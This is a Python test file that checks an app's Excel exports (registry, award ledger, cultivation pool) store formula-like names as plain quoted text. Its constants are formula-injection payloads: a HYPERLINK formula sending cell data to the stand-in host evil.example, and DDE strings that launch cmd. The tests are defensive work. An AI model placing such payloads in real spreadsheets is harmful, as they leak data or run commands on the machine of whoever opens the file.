"""The Excel exports hold data, never formulas: a name typed like a formula comes back
in the registry, the award ledger and the cultivation pool as exactly the text it was,
in a text cell Excel will not evaluate, with Excel's quote prefix against a later edit."""
from __future__ import annotations

import io

from cultivation_helpers import PLAN, nominate, official, people, step
from cultivation_helpers import code as pool_code
from cultivation_helpers import deploy as deploy_cultivation
from national_helpers import deploy as deploy_national
from national_helpers import list_unit
from openpyxl import load_workbook
from webclient import sign_in

from web.accounts.users import add_user

LINK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看详情")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def download(app, path: str):
    client = app.test_client()
    sign_in(client, "prov")
    r = client.get(path)
    assert r.status_code == 200
    return load_workbook(io.BytesIO(r.data))


def cell_holding(worksheet, text):
    found = [c for row in worksheet.iter_rows() for c in row if c.value == text]
    assert found, f"{text!r} is not in {worksheet.title}"
    return found[0]


def assert_text(cell):
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    assert cell.quotePrefix, cell.coordinate  # editing the cell in Excel keeps it text


def test_the_registry_export_writes_a_formula_like_name_as_its_text(app, runtime):
    deploy_national(runtime)
    list_unit(runtime, 1, LINK, "green_factory")
    list_unit(runtime, 2, "兰州\x07绿源", "green_park")  # a control character cannot be in a workbook at all
    add_user("prov", "provincial", password="correct-horse")
    sheet = download(app, "/registry.xlsx").active
    assert_text(cell_holding(sheet, LINK))
    assert cell_holding(sheet, "兰州\ufffd绿源").data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_award_ledger_export_writes_a_formula_like_name_as_its_text(app, runtime):
    deploy_national(runtime)
    list_unit(runtime, 1, LINK, "green_factory")
    list_unit(runtime, 2, COMMAND, "green_park", city="620500")
    add_user("prov", "provincial", password="correct-horse")
    book = download(app, "/awards.xlsx")
    ledger = book["奖励台账"]
    assert_text(cell_holding(ledger, LINK))
    assert_text(cell_holding(ledger, COMMAND))
    assert cell_holding(ledger, 500000).data_type == "n"  # amounts stay numbers to add up
    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)


def test_the_cultivation_export_writes_formula_like_names_and_plans_as_their_text(app, runtime):
    deploy_cultivation(runtime)
    people()
    add_user("prov", "provincial", password="correct-horse")
    case = nominate(runtime, "green_factory", pool_code(1), name=LINK)
    step(runtime, case.id, "Task_cultivation_plan", {**PLAN, "goals": SUM, "measures": MINUS}, official())
    sheet = download(app, "/cultivation.xlsx").active
    for text in (LINK, SUM, MINUS):
        assert_text(cell_holding(sheet, text))
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
